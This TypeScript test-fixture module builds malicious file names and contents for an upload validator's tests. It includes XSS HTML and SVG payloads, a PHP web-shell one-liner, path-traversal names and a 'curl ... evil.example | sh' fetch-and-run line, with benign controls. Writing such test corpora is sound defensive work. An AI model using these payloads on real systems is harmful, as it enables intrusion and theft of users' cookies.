/**
 * A committed corpus of hostile file names and contents, none of which an upload may get through, and a
 * control group of benign ones that must. Deterministic (no randomness, no I/O) and importable from Node,
 * so the unit tests (judgeFile, inspectFileContent) and the integration tests (the real API) share it.
 *
 * The byte builders (`samples`) make small but real files: a 1×1 PNG with valid CRCs, a PE with its
 * "PE\0\0" header where e_lfanew points, a stored ZIP with CRC-32s and a central directory, and so on.
 */
import type { TPolicy } from "@/server/policies/policy-schemas";

export type THostileName = { name: string; why: string };
export type TSampleFile = { name: string; bytes: Uint8Array; why: string };

// ---------------------------------------------------------------------------------------------------
// Byte builders

type TPart = string | readonly number[] | Uint8Array;

const encoder = new TextEncoder();

/** The parts one after another: strings as UTF-8, number arrays as bytes. */
export function concatBytes(...parts: TPart[]): Uint8Array {
  const chunks = parts.map((part) => (typeof part === "string" ? encoder.encode(part) : Uint8Array.from(part)));
  const out = new Uint8Array(chunks.reduce((total, chunk) => total + chunk.length, 0));
  let offset = 0;
  for (const chunk of chunks) {
    out.set(chunk, offset);
    offset += chunk.length;
  }
  return out;
}

function u16le(value: number): number[] {
  return [value & 0xff, (value >>> 8) & 0xff];
}

function u32le(value: number): number[] {
  return [value & 0xff, (value >>> 8) & 0xff, (value >>> 16) & 0xff, (value >>> 24) & 0xff];
}

function u32be(value: number): number[] {
  return u32le(value).reverse();
}

function zeros(length: number): number[] {
  return new Array<number>(length).fill(0);
}

const CRC_TABLE = Array.from({ length: 256 }, (_, index) => {
  let crc = index;
  for (let bit = 0; bit < 8; bit++) crc = crc & 1 ? 0xedb88320 ^ (crc >>> 1) : crc >>> 1;
  return crc >>> 0;
});

function crc32(bytes: Uint8Array): number {
  let crc = 0xffffffff;
  for (const byte of bytes) crc = (CRC_TABLE[(crc ^ byte) & 0xff] ?? 0) ^ (crc >>> 8);
  return (crc ^ 0xffffffff) >>> 0;
}

function pngChunk(type: string, data: TPart): Uint8Array {
  const body = concatBytes(type, data);
  return concatBytes(u32be(body.length - 4), body, u32be(crc32(body)));
}

/** A ZIP of stored (uncompressed) entries, with local headers, a central directory and its end record. */
function zipOf(entries: ReadonlyArray<{ name: string; data: TPart }>): Uint8Array {
  const locals: Uint8Array[] = [];
  const centrals: Uint8Array[] = [];
  let offset = 0;
  for (const entry of entries) {
    const name = encoder.encode(entry.name);
    const data = concatBytes(entry.data);
    const common = [...u16le(0), ...u16le(0), ...u16le(0), ...u16le(0x21), ...u32le(crc32(data))];
    const sizes = [...u32le(data.length), ...u32le(data.length), ...u16le(name.length), ...u16le(0)];
    const local = concatBytes([0x50, 0x4b, 0x03, 0x04], u16le(20), common, sizes, name, data);
    const central = concatBytes(
      [0x50, 0x4b, 0x01, 0x02],
      u16le(20),
      u16le(20),
      common,
      sizes,
      u16le(0),
      u16le(0),
      u16le(0),
      u32le(0),
      u32le(offset),
      name,
    );
    locals.push(local);
    centrals.push(central);
    offset += local.length;
  }
  const directory = concatBytes(...centrals);
  const end = concatBytes(
    [0x50, 0x4b, 0x05, 0x06],
    u16le(0),
    u16le(0),
    u16le(entries.length),
    u16le(entries.length),
    u32le(directory.length),
    u32le(offset),
    u16le(0),
  );
  return concatBytes(...locals, directory, end);
}

function contentTypes(mainType: string): string {
  return (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' +
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
    '<Default Extension="xml" ContentType="application/xml"/>' +
    `<Override PartName="/word/document.xml" ContentType="${mainType}.main+xml"/></Types>`
  );
}

/**
 * An OLE compound file (version 3, 512-byte sectors): header, one FAT sector, one directory sector
 * whose root entry carries `classId` (16 bytes as stored).
 */
function compoundFile(classId: readonly number[]): Uint8Array {
  const header = concatBytes(
    [0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1],
    zeros(16),
    u16le(0x3e),
    u16le(3),
    u16le(0xfffe),
    u16le(9),
    u16le(6),
    zeros(6),
    u32le(0), // directory sectors (0 in version 3)
    u32le(1), // FAT sectors
    u32le(1), // first directory sector
    u32le(0),
    u32le(0x1000),
    u32le(0xfffffffe), // no mini FAT
    u32le(0),
    u32le(0xfffffffe), // no DIFAT sectors
    u32le(0),
    u32le(0), // DIFAT[0]: the FAT is sector 0
    new Array<number>(109 * 4 - 4).fill(0xff),
  );
  const fat = concatBytes(u32le(0xfffffffd), u32le(0xfffffffe), new Array<number>(512 - 8).fill(0xff));
  const rootName = concatBytes(...[..."Root Entry"].map((character) => u16le(character.charCodeAt(0))));
  const rootEntry = concatBytes(
    rootName,
    zeros(64 - rootName.length),
    u16le(rootName.length + 2),
    [5, 1],
    u32le(0xffffffff),
    u32le(0xffffffff),
    u32le(0xffffffff),
    classId,
    u32le(0),
    zeros(16),
    u32le(0xfffffffe),
    u32le(0),
    u32le(0),
  );
  const directory = concatBytes(rootEntry, zeros(512 - rootEntry.length));
  return concatBytes(header, fat, directory);
}

const MSI_CLASS_ID = [0x84, 0x10, 0x0c, 0x00, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46];
/** {00020906-0000-0000-C000-000000000046}, a Word 97-2003 document. */
const WORD_CLASS_ID = [0x06, 0x09, 0x02, 0x00, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46];

const DOS_STUB_MESSAGE = "This program cannot be run in DOS mode.\r\r\n$";

function machO(magic: readonly number[]): Uint8Array {
  const littleEndian = magic[0] === 0xce || magic[0] === 0xcf;
  const word = littleEndian ? u32le : u32be;
  const is64 = magic.includes(0xcf);
  return concatBytes(
    magic,
    word(is64 ? 0x01000007 : 7),
    word(3),
    word(2),
    word(0),
    word(0),
    word(0),
    is64 ? zeros(4) : [],
  );
}

/** Small real files, by what they are. */
export const samples = {
  png: () =>
    concatBytes(
      [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a],
      pngChunk("IHDR", [...u32be(1), ...u32be(1), 8, 0, 0, 0, 0]),
      pngChunk("IDAT", [0x78, 0x01, 0x01, 0x02, 0x00, 0xfd, 0xff, 0x00, 0x00, 0x00, 0x02, 0x00, 0x01]),
      pngChunk("IEND", []),
    ),
  jpeg: () =>
    concatBytes(
      [0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10],
      "JFIF",
      [0x00, 0x01, 0x01, 0x00, 0x00, 0x01, 0x00, 0x01, 0x00, 0x00],
      [0xff, 0xdb, 0x00, 0x43, 0x00],
      new Array<number>(64).fill(1),
      [0xff, 0xd9],
    ),
  gif: () =>
    concatBytes(
      "GIF89a",
      [0x01, 0x00, 0x01, 0x00, 0x80, 0x00, 0x00, 0x00, 0x00, 0x00, 0xff, 0xff, 0xff],
      [0x2c, 0x00, 0x00, 0x00, 0x00, 0x01, 0x00, 0x01, 0x00, 0x00, 0x02, 0x02, 0x44, 0x01, 0x00, 0x3b],
    ),
  pdf: () =>
    concatBytes(
      "%PDF-1.4\n%\u00e2\u00e3\u00cf\u00d3\n",
      "1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n",
      "2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n",
      "trailer\n<< /Root 1 0 R >>\n%%EOF\n",
    ),
  zip: () => zipOf([{ name: "notes.txt", data: "Meeting notes.\n" }]),
  docx: () =>
    zipOf([
      {
        name: "[Content_Types].xml",
        data: contentTypes("application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
      },
      { name: "word/document.xml", data: "<w:document/>" },
    ]),
  docm: () =>
    zipOf([
      { name: "[Content_Types].xml", data: contentTypes("application/vnd.ms-word.document.macroEnabled") },
      { name: "word/vbaProject.bin", data: [0xd0, 0xcf, 0x11, 0xe0] },
    ]),
  jar: () =>
    zipOf([
      { name: "META-INF/MANIFEST.MF", data: "Manifest-Version: 1.0\r\nMain-Class: Payload\r\n" },
      { name: "Payload.class", data: [0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 0x34] },
    ]),
  apk: () =>
    zipOf([
      { name: "AndroidManifest.xml", data: [0x03, 0x00, 0x08, 0x00] },
      { name: "classes.dex", data: "dex\n035\0" },
    ]),
  rar: () => concatBytes("Rar!", [0x1a, 0x07, 0x01, 0x00], [0x33, 0x92, 0xb5, 0xe5, 0x0a, 0x01, 0x05, 0x06, 0x00]),
  sevenZip: () => concatBytes([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0x00, 0x04], zeros(24)),
  mp4: () => concatBytes(u32be(24), "ftyp", "isom", u32be(0x200), "isom", "mp41", u32be(8), "free", u32be(8), "mdat"),
  wav: () =>
    concatBytes(
      "RIFF",
      u32le(38),
      "WAVE",
      "fmt ",
      u32le(16),
      u16le(1),
      u16le(1),
      u32le(8000),
      u32le(8000),
      u16le(1),
      u16le(8),
      "data",
      u32le(2),
      [0x80, 0x80],
    ),
  word97: () => compoundFile(WORD_CLASS_ID),
  msi: () => compoundFile(MSI_CLASS_ID),
  /** A PE32+ image: DOS header and stub, "PE\0\0" at e_lfanew (0x80), COFF header, optional header. */
  pe: (characteristics = 0x0022) =>
    concatBytes(
      "MZ",
      [0x90, 0x00, 0x03, 0x00, 0x00, 0x00, 0x04, 0x00, 0x00, 0x00, 0xff, 0xff, 0x00, 0x00, 0xb8, 0x00],
      zeros(0x3c - 18),
      u32le(0x80),
      [0x0e, 0x1f, 0xba, 0x0e, 0x00, 0xb4, 0x09, 0xcd, 0x21, 0xb8, 0x01, 0x4c, 0xcd, 0x21],
      DOS_STUB_MESSAGE,
      zeros(0x80 - 0x40 - 14 - DOS_STUB_MESSAGE.length),
      "PE\0\0",
      u16le(0x8664),
      u16le(1),
      u32le(0),
      u32le(0),
      u32le(0),
      u16le(0xf0),
      u16le(characteristics),
      u16le(0x20b),
      zeros(0xf0 - 2),
      ".text\0\0\0",
      zeros(32),
    ),
  /** A 16-bit DOS program: an MZ header with no PE header. */
  dos: () => concatBytes("MZ", [0x2c, 0x00, 0x01, 0x00, 0x00, 0x00, 0x02, 0x00], zeros(22), [0xb4, 0x4c, 0xcd, 0x21]),
  elf: () =>
    concatBytes(
      [0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00],
      zeros(8),
      u16le(2),
      u16le(0x3e),
      u32le(1),
      u32le(0x401000),
      u32le(0),
      u32le(64),
      u32le(0),
      zeros(8),
      u32le(0),
      u16le(64),
      u16le(56),
      u16le(0),
      u16le(64),
      u16le(0),
      u16le(0),
    ),
  machO32: () => machO([0xfe, 0xed, 0xfa, 0xce]),
  machO64: () => machO([0xfe, 0xed, 0xfa, 0xcf]),
  machO32le: () => machO([0xce, 0xfa, 0xed, 0xfe]),
  machO64le: () => machO([0xcf, 0xfa, 0xed, 0xfe]),
  /** A universal binary with two architectures (x86_64, arm64). */
  fatMachO: () =>
    concatBytes(
      [0xca, 0xfe, 0xba, 0xbe],
      u32be(2),
      u32be(0x01000007),
      u32be(3),
      u32be(0x1000),
      u32be(0x20),
      u32be(12),
      u32be(0x0100000c),
      u32be(0),
      u32be(0x2000),
      u32be(0x20),
      u32be(14),
      machO([0xcf, 0xfa, 0xed, 0xfe]),
    ),
  fatMachO64: () => concatBytes([0xca, 0xfe, 0xba, 0xbf], u32be(1), u32be(0x0100000c), u32be(0), zeros(24)),
  /** Java 8 class file: CAFEBABE, minor 0, major 52. */
  javaClass: () => concatBytes([0xca, 0xfe, 0xba, 0xbe], [0x00, 0x00, 0x00, 0x34], [0x00, 0x0d, 0x0a, 0x00]),
  wasm: () => concatBytes([0x00, 0x61, 0x73, 0x6d, 0x01, 0x00, 0x00, 0x00], [0x01, 0x04, 0x01, 0x60, 0x00, 0x00]),
  dex: () => concatBytes("dex\n035\0", zeros(0x68)),
  /** A shell link header: size 0x4C, its CLSID, link flags, then zeroes up to 76 bytes. */
  lnk: () =>
    concatBytes(
      u32le(0x4c),
      [0x01, 0x14, 0x02, 0x00, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46],
      u32le(0x9b),
      u32le(0x20),
      zeros(76 - 28),
    ),
  swf: () => concatBytes("FWS", [0x0a], u32le(32), [0x78, 0x00, 0x05, 0x5f, 0x00, 0x00, 0x0f, 0xa0, 0x00], zeros(15)),
  text: (text: string) => encoder.encode(text),
  /** UTF-16LE with its byte order mark. */
  utf16: (text: string) => concatBytes([0xff, 0xfe], ...[...text].map((character) => u16le(character.charCodeAt(0)))),
} as const;

// ---------------------------------------------------------------------------------------------------
// The policy the corpus is judged under

/**
 * Allows every outer extension the corpus uses, so what refuses a hostile file is the name or content
 * rules, not a short list. Programs' own extensions (exe, js, scr...) stay off it, as on any sane list.
 */
export const PERMISSIVE_POLICY: TPolicy = {
  maximumSizeLimitInBytes: 104_857_600,
  allowedExtensions: [
    ..."pdf png jpg jpeg gif webp bmp tif tiff heic mp3 mp4 mov wav ogg webm".split(" "),
    ..."txt csv tsv log md json xml eml ics vcf rtf svg".split(" "),
    ..."doc docx xls xlsx ppt pptx odt ods odp msg zip gz 7z rar".split(" "),
  ],
};

// ---------------------------------------------------------------------------------------------------
// Hostile names

function codePointName(codePoint: number): string {
  return `U+${codePoint.toString(16).toUpperCase().padStart(4, "0")}`;
}

const BIDI_AND_INVISIBLE: ReadonlyArray<[number, string]> = [
  [0x202e, "RIGHT-TO-LEFT OVERRIDE"],
  [0x202d, "LEFT-TO-RIGHT OVERRIDE"],
  [0x202b, "RIGHT-TO-LEFT EMBEDDING"],
  [0x2066, "LEFT-TO-RIGHT ISOLATE"],
  [0x2067, "RIGHT-TO-LEFT ISOLATE"],
  [0x2068, "FIRST STRONG ISOLATE"],
  [0x2069, "POP DIRECTIONAL ISOLATE"],
  [0x200e, "LEFT-TO-RIGHT MARK"],
  [0x200f, "RIGHT-TO-LEFT MARK"],
  [0x061c, "ARABIC LETTER MARK"],
  [0x200b, "ZERO WIDTH SPACE"],
  [0x200c, "ZERO WIDTH NON-JOINER"],
  [0x200d, "ZERO WIDTH JOINER"],
  [0x2060, "WORD JOINER"],
  [0xfeff, "ZERO WIDTH NO-BREAK SPACE (BOM)"],
  [0x00ad, "SOFT HYPHEN"],
  [0x180e, "MONGOLIAN VOWEL SEPARATOR"],
  [0x3164, "HANGUL FILLER"],
  [0xffa0, "HALFWIDTH HANGUL FILLER"],
  [0x115f, "HANGUL CHOSEONG FILLER"],
  [0x2800, "BRAILLE PATTERN BLANK"],
  [0x034f, "COMBINING GRAPHEME JOINER"],
  [0xfe0f, "VARIATION SELECTOR-16"],
  [0xe0001, "LANGUAGE TAG"],
  [0x2028, "LINE SEPARATOR"],
  [0x2029, "PARAGRAPH SEPARATOR"],
  [0xe000, "a private-use character"],
  [0x0378, "an unassigned code point"],
  [0xd800, "a lone high surrogate"],
  [0xdfff, "a lone low surrogate"],
];

const DOT_LOOKALIKES: ReadonlyArray<[number, string]> = [
  [0x2024, "ONE DOT LEADER"],
  [0x2025, "TWO DOT LEADER"],
  [0x2027, "HYPHENATION POINT"],
  [0xff0e, "FULLWIDTH FULL STOP"],
  [0xfe52, "SMALL FULL STOP"],
  [0xff61, "HALFWIDTH IDEOGRAPHIC FULL STOP"],
  [0x0701, "SYRIAC SUPRALINEAR FULL STOP"],
  [0x0702, "SYRIAC SUBLINEAR FULL STOP"],
  [0xa60e, "VAI FULL STOP"],
  [0xa4f8, "LISU LETTER TONE MYA TI"],
  [0x2e31, "WORD SEPARATOR MIDDLE DOT"],
  [0x10a50, "KHAROSHTHI PUNCTUATION DOT"],
];

const SLASH_LOOKALIKES: ReadonlyArray<[number, string]> = [
  [0x2215, "DIVISION SLASH"],
  [0x2044, "FRACTION SLASH"],
  [0xff0f, "FULLWIDTH SOLIDUS"],
  [0x29f8, "BIG SOLIDUS"],
  [0x29f9, "BIG REVERSE SOLIDUS"],
  [0xfe68, "SMALL REVERSE SOLIDUS"],
  [0xff3c, "FULLWIDTH REVERSE SOLIDUS"],
  [0x2216, "SET MINUS"],
  [0x2571, "BOX DRAWINGS LIGHT DIAGONAL UPPER RIGHT TO LOWER LEFT"],
  [0x27cb, "MATHEMATICAL RISING DIAGONAL"],
  [0x0338, "COMBINING LONG SOLIDUS OVERLAY"],
];

const DECOY_AND_RISKY: ReadonlyArray<[string, readonly string[]]> = [
  ["pdf", ["exe", "scr", "js", "bat"]],
  ["docx", ["js", "exe", "vbs", "hta"]],
  ["jpg", ["scr", "exe", "lnk", "ps1"]],
  ["png", ["exe", "cmd", "jar", "svg"]],
  ["xlsx", ["exe", "com", "pif", "msi"]],
  ["txt", ["exe", "vbs", "wsf", "html"]],
  ["doc", ["exe", "cpl", "reg", "jse"]],
  ["mp4", ["exe", "scr", "app", "sh"]],
];

function hostileNames(): THostileName[] {
  const names: THostileName[] = [{ name: "", why: "an empty name" }];

  for (const [index, [codePoint, label]] of BIDI_AND_INVISIBLE.entries()) {
    const character = String.fromCodePoint(codePoint);
    const name = index < 10 ? `invoice${character}fdp.exe` : `report${character}.pdf`;
    names.push({ name, why: `${codePointName(codePoint)} ${label}, invisible or reordering the name` });
  }
  for (let code = 0; code <= 0x1f; code++) {
    names.push({
      name: `bad${String.fromCharCode(code)}name.pdf`,
      why: `the control character ${codePointName(code)}`,
    });
  }
  for (const code of [0x7f, 0x80, 0x85, 0x9b]) {
    names.push({
      name: `bad${String.fromCharCode(code)}name.pdf`,
      why: `the control character ${codePointName(code)}`,
    });
  }
  names.push({ name: "report.pdf\u0000.exe", why: "a NUL that truncates the name to report.pdf in C code" });

  for (const [name, why] of [
    ["../../etc/passwd.pdf", "path traversal with slashes"],
    ["..\\..\\windows\\system32\\drivers.pdf", "path traversal with backslashes"],
    ["/etc/shadow.txt", "an absolute Unix path"],
    ["C:\\Windows\\win.ini.txt", "an absolute Windows path"],
    ["\\\\attacker\\share\\x.pdf", "a UNC path"],
    ["uploads/../../x.pdf", "a path inside the name"],
    ["a\\b.png", "a backslash"],
    ["./report.pdf", "a relative path"],
  ] as const) {
    names.push({ name, why });
  }

  for (const [codePoint, label] of DOT_LOOKALIKES) {
    names.push({
      name: `invoice${String.fromCodePoint(codePoint)}pdf`,
      why: `${codePointName(codePoint)} ${label} faking ".pdf"`,
    });
  }
  for (const [codePoint, label] of SLASH_LOOKALIKES) {
    names.push({
      name: `etc${String.fromCodePoint(codePoint)}passwd.pdf`,
      why: `${codePointName(codePoint)} ${label} faking a path`,
    });
  }

  for (const [name, why] of [
    ["setup\uff0e\uff45\uff58\uff45", "a fullwidth .exe, setup.exe under NFKC"],
    ["report.\uff50\uff44\uff46", "a fullwidth pdf extension"],
    ["invoice.pdf.\uff45\uff58\uff45", "a fullwidth exe after a decoy"],
    ["photo.jp\u0261", "LATIN SMALL LETTER SCRIPT G in the extension"],
    ["report.pdf.\u0435xe", "a Cyrillic e in exe"],
    ["report.p\u0501f", "a Cyrillic komi de for d"],
    ["file.pd\ufb00", "a ligature that NFKC turns into ff"],
    ["\uff23\uff2f\uff2e.txt", "a fullwidth CON, CON under NFKC"],
    ["report.\u1d18\u1d05\ua730", "small capital letters spelling PDF"],
  ] as const) {
    names.push({ name, why });
  }

  for (const character of '<>:"|?*')
    names.push({ name: `name${character}x.pdf`, why: `${character}, forbidden on Windows` });
  names.push({ name: "report.pdf:Zone.Identifier", why: "an NTFS alternate data stream" });
  names.push({ name: "report.txt::$DATA", why: "the NTFS default data stream" });

  for (const device of ["CON", "PRN", "AUX", "NUL"]) {
    names.push({ name: `${device}.txt`, why: `${device}, a Windows device name` });
    names.push({ name: `${device.toLowerCase()}.pdf`, why: `${device} in lower case, a Windows device name` });
  }
  for (let port = 1; port <= 9; port++) {
    names.push({ name: `COM${port}.pdf`, why: `COM${port}, a Windows serial port` });
    names.push({ name: `lpt${port}.txt`, why: `LPT${port}, a Windows printer port` });
  }
  names.push({ name: "CON .txt", why: "CON followed by a space, which Windows drops" });
  names.push({ name: "nul.tar.gz", why: "NUL with two extensions" });
  names.push({ name: "COM\u00b9.pdf", why: "COM with a superscript one, reserved too" });
  names.push({ name: "Aux.Pdf", why: "AUX in mixed case" });

  for (const name of [".", "..", "...", "....."]) names.push({ name, why: "only dots" });
  for (const [name, why] of [
    ["report.pdf.", "a trailing dot, dropped by Windows"],
    ["report.pdf...", "trailing dots"],
    ["report.pdf ", "a trailing space, dropped by Windows"],
    ["report.pdf\u00a0", "a trailing no-break space"],
    [" report.pdf", "a leading space"],
    ["\u3000report.pdf", "a leading ideographic space"],
    ["report.pdf. . .", "trailing dots and spaces"],
    [".pdf", "an empty base name"],
    ["..pdf", "an empty base name after two dots"],
    ["...png", "an empty base name after three dots"],
    [".txt", "an empty base name"],
  ] as const) {
    names.push({ name, why });
  }

  for (const [decoy, risky] of DECOY_AND_RISKY) {
    for (const extension of risky) {
      names.push({ name: `invoice.${decoy}.${extension}`, why: `a .${decoy} that is really a .${extension}` });
    }
  }
  names.push({ name: "report.pdf      .exe", why: "a double extension padded with spaces" });
  names.push({ name: "Photo.JPG.Exe", why: "a double extension in mixed case" });
  names.push({ name: "scan.pdf.final.html", why: "a decoy extension further in" });

  names.push({ name: `${"a".repeat(257)}.pdf`, why: "261 characters" });
  names.push({ name: `${"\u00e9".repeat(300)}.pdf`, why: "304 accented characters" });
  names.push({ name: `${"\u{1f600}".repeat(255)}.pdf`, why: "259 emoji, 518 UTF-16 units" });
  names.push({ name: `${"x".repeat(4096)}.txt`, why: "a 4 KB name" });
  names.push({ name: `${"../".repeat(100)}etc/passwd.txt`, why: "a long traversal" });

  return names;
}

export const HOSTILE_FILE_NAMES: readonly THostileName[] = Object.freeze(hostileNames());

// ---------------------------------------------------------------------------------------------------
// Hostile contents: innocent names a permissive policy allows, with bytes that must be refused

const HTML_PAYLOADS: ReadonlyArray<[string, string]> = [
  ["<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>", "an HTML page"],
  ["<html><head><title>x</title></head></html>", "an <html> page"],
  ["<script>fetch('//evil.example/'+document.cookie)</script>", "a bare script tag"],
  ['<iframe src="https://evil.example/phish"></iframe>', "an iframe"],
  ['\ufeff  \n<body onload="alert(1)">', "a body tag after a BOM and whitespace"],
  ['<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "SVG markup"],
  ["<?php system($_GET['c']); ?>", "PHP code"],
  [
    '<?xml version="1.0"?>\n<!-- hi -->\n<html xmlns="http://www.w3.org/1999/xhtml"><script>1</script></html>',
    "XHTML after a prolog",
  ],
  ['<img src=x onerror="alert(1)">', "an img with an error handler"],
  ["<HEAD><META HTTP-EQUIV=refresh CONTENT='0;url=https://evil.example'>", "an upper-case head with a redirect"],
];

const TEXT_EXTENSIONS = ["txt", "csv", "md", "json", "log", "tsv", "eml"] as const;

const SVG_PAYLOADS: ReadonlyArray<[string, string]> = [
  ['<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "an SVG with a script"],
  ['<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>', "an SVG with an onload handler"],
  [
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "an SVG with a javascript: link",
  ],
  [
    '<svg xmlns="http://www.w3.org/2000/svg"><a href="jav&#x61;script:alert(1)"><text>x</text></a></svg>',
    "an SVG with an entity-encoded javascript: link",
  ],
  [
    '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="//evil.example"/></body></foreignObject></svg>',
    "an SVG embedding HTML",
  ],
  [
    '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;">]><svg xmlns="http://www.w3.org/2000/svg"><text>&lol2;</text></svg>',
    "an SVG declaring entities",
  ],
  ["<!DOCTYPE html><html><script>alert(1)</script></html>", "HTML named .svg"],
  [
    '<svg xmlns="http://www.w3.org/2000/svg"><set attributeName="onmouseover" to="alert(1)"/></svg>',
    "an SVG setting a handler",
  ],
];

function hostileContents(): TSampleFile[] {
  const files: TSampleFile[] = [];
  const add = (name: string, bytes: Uint8Array, why: string) => files.push({ name, bytes, why });

  for (const extension of ["pdf", "png", "jpg", "txt", "csv", "docx", "xlsx", "zip", "doc", "mp4", "gif", "json"]) {
    add(`setup-as.${extension}`, samples.pe(), `a Windows PE program named .${extension}`);
  }
  add("library.pdf", samples.pe(0x2022), "a Windows DLL named .pdf");
  add("old-program.txt", samples.dos(), "a DOS program named .txt");
  for (const extension of ["pdf", "png", "txt", "zip"]) {
    add(`linux-program.${extension}`, samples.elf(), `an ELF program named .${extension}`);
  }
  for (const [variant, build] of [
    ["32-bit", samples.machO32],
    ["64-bit", samples.machO64],
    ["32-bit little-endian", samples.machO32le],
    ["64-bit little-endian", samples.machO64le],
    ["universal", samples.fatMachO],
    ["universal 64-bit", samples.fatMachO64],
  ] as const) {
    const slug = variant.replace(/[^a-z0-9]+/g, "-");
    add(`mac-${slug}.pdf`, build(), `a ${variant} Mach-O program named .pdf`);
    add(`mac-${slug}.txt`, build(), `a ${variant} Mach-O program named .txt`);
  }
  add("class.pdf", samples.javaClass(), "a Java class named .pdf");
  add("class.txt", samples.javaClass(), "a Java class named .txt");
  add("module.pdf", samples.wasm(), "a WebAssembly module named .pdf");
  add("module.txt", samples.wasm(), "a WebAssembly module named .txt");
  add("android.png", samples.dex(), "Dalvik bytecode named .png");
  add("android.txt", samples.dex(), "Dalvik bytecode named .txt");
  for (const extension of ["pdf", "txt", "jpg"]) {
    add(`shortcut.${extension}`, samples.lnk(), `a Windows shortcut named .${extension}`);
  }
  for (const extension of ["doc", "xls", "ppt", "msg", "pdf"]) {
    add(`installer.${extension}`, samples.msi(), `a Windows Installer package named .${extension}`);
  }
  for (const [slug, script, label] of [
    ["shell", "#!/bin/sh\ncurl -s https://evil.example/x | sh\n", "a shell script"],
    ["python", "#! /usr/bin/env python3\nimport os; os.system('id')\n", "a Python script"],
    ["perl", "\ufeff#!/usr/bin/perl\nexec('/bin/sh');\n", "a Perl script after a BOM"],
  ] as const) {
    for (const extension of ["txt", "csv", "pdf"]) {
      add(`${slug}-script.${extension}`, samples.text(script), `${label} named .${extension}`);
    }
  }
  add("archive.zip", samples.jar(), "a Java archive named .zip");
  add("report.docx", samples.jar(), "a Java archive named .docx");
  add("photos.zip", samples.apk(), "an Android app named .zip");
  add("letter.docx", samples.docm(), "a Word document with macros named .docx");
  add("movie.pdf", samples.swf(), "a Flash program named .pdf");

  for (const extension of ["png", "jpg", "pdf", "txt", "csv"]) {
    add(`zip-as.${extension}`, samples.zip(), `a ZIP archive named .${extension}`);
  }
  for (const extension of ["txt", "csv", "jpg", "pdf"]) {
    add(`png-as.${extension}`, samples.png(), `a PNG image named .${extension}`);
  }
  add("jpeg-as.png", samples.jpeg(), "a JPEG named .png");
  add("jpeg-as.gif", samples.jpeg(), "a JPEG named .gif");
  add("gif-as.pdf", samples.gif(), "a GIF named .pdf");
  add("gif-as.txt", samples.gif(), "a GIF named .txt");
  for (const extension of ["png", "txt", "docx"]) {
    add(`pdf-as.${extension}`, samples.pdf(), `a PDF named .${extension}`);
  }
  add("rar-as.zip", samples.rar(), "a RAR archive named .zip");
  add("7z-as.docx", samples.sevenZip(), "a 7-Zip archive named .docx");
  for (const extension of ["pdf", "docx", "txt"]) {
    add(`ole-as.${extension}`, samples.word97(), `an OLE compound file named .${extension}`);
  }
  add("word-as.pdf", samples.docx(), "a Word document named .pdf");
  add("audio-as.jpg", samples.wav(), "a WAV file named .jpg");
  add("video-as.png", samples.mp4(), "an MP4 named .png");

  for (const [index, [html, label]] of HTML_PAYLOADS.entries()) {
    const extension = TEXT_EXTENSIONS[index % TEXT_EXTENSIONS.length] ?? "txt";
    add(`page-${index}.${extension}`, samples.text(html), `${label} named .${extension}`);
  }
  add("page.pdf", samples.text(HTML_PAYLOADS[0]?.[0] ?? ""), "an HTML page named .pdf");
  add("page.png", samples.text(HTML_PAYLOADS[2]?.[0] ?? ""), "a script named .png");
  add("page-utf16.txt", samples.utf16("<html><script>alert(1)</script></html>"), "UTF-16 HTML named .txt");
  add("binary.txt", samples.text("harmless\u0000\u0000\u0000binary"), "NUL bytes named .txt");
  add("binary.csv", samples.text("a,b\n\u0000\u0001\u0002,c\n"), "NUL bytes named .csv");
  for (const [index, [svg, label]] of SVG_PAYLOADS.entries()) {
    add(`image-${index}.svg`, samples.text(svg), label);
  }
  return files;
}

export const HOSTILE_FILE_CONTENTS: readonly TSampleFile[] = Object.freeze(hostileContents());

// ---------------------------------------------------------------------------------------------------
// The control group: benign names and contents that must be accepted

export const BENIGN_FILE_NAMES: readonly string[] = Object.freeze([
  "report.pdf",
  "archive.tar.gz",
  "my.holiday.photo.jpg",
  "v1.2.pdf",
  "R\u00e9sum\u00e9 2024.docx",
  "\u4f1a\u8b70\uff1a\u8b70\u4e8b\u9332.pdf",
  "notes.txt",
  "data.csv",
  "scan (1).png",
  "Vie\u0323\u0302t Nam.pdf",
  "l\u00b7l.txt",
  "console.txt",
  "CONTRACT.pdf",
  "com10.pdf",
  "photo.JPG",
  "a.pdf",
  "Notes\u2026 final.docx",
  "\ufb01le.pdf",
  "report-final_v2.xlsx",
  "invoice.pdf.txt",
  "\u0627\u0644\u062a\u0642\u0631\u064a\u0631 \u0662\u0660\u0662\u0664.pdf",
  "\u{1f600} party.jpg",
]);

export const BENIGN_FILE_CONTENTS: readonly TSampleFile[] = Object.freeze([
  { name: "photo.png", bytes: samples.png(), why: "a PNG" },
  { name: "photo.jpg", bytes: samples.jpeg(), why: "a JPEG" },
  { name: "photo.jpeg", bytes: samples.jpeg(), why: "a JPEG named .jpeg" },
  { name: "anim.gif", bytes: samples.gif(), why: "a GIF" },
